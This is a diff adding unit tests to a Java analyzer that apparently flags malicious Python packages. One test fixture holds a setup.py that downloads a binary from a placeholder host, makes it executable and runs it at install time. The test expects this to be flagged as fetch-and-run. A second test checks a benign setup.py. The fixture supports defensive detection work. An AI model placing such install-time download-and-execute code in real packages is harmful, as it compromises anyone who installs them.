@@ -142,6 +142,33 @@ class PackageAnalyzerTest {
   }
 
   @Test
+  void analyze_setupPyDownloadingAndRunningABinary_malicious() {
+    var d =
+        decide(
+            pkg(
+                "setup.py",
+                "import os, subprocess, urllib.request\nfrom setuptools import setup\n"
+                    + "urllib.request.urlretrieve('https://files.example/tool', '/tmp/tool')\n"
+                    + "os.chmod('/tmp/tool', 0o755)\nsubprocess.Popen(['/tmp/tool'])\nsetup(name='x')\n"));
+    assertThat(d.verdict()).isEqualTo(Verdict.MALICIOUS);
+    assertThat(d.reasons()).anyMatch(r -> r.startsWith("setup-script-fetch-and-run"));
+  }
+
+  @Test
+  void analyze_setupPyImportingItsOwnNetworkingPackage_notMalicious() {
+    // setup.py reads the version from the package, whose code uses requests and subprocess
+    var d =
+        decide(
+            pkg(
+                "setup.py",
+                "from setuptools import setup\nfrom client import __version__\nsetup(name='client', version=__version__)\n",
+                "client/__init__.py",
+                "import requests, subprocess\n__version__ = '1.0'\n"
+                    + "def run(u):\n    return subprocess.run(['git', 'ls-remote', requests.get(u).text])\n"));
+    assertThat(d.verdict()).isNotEqualTo(Verdict.MALICIOUS);
+  }
+
+  @Test
   void analyze_setupPyCmdclassHookAlone_notMalicious() {
     PackageAnalysis a =
         analyzer.analyze(
